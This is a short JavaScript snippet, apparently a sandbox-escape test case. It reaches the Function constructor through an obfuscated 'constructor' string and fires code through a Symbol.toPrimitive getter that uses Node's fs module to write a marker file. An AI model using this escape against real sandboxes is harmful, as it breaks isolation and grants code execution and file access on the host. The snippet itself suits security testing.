// what a lookup made becomes a number
const k=['constr','uctor'].join('');
let x=''; x=x[k]; x=x[k]; const o={get [Symbol.toPrimitive]() { return x('process.getBuiltinModule("fs").writeFileSync("HIT","toprim2")') }}; +o
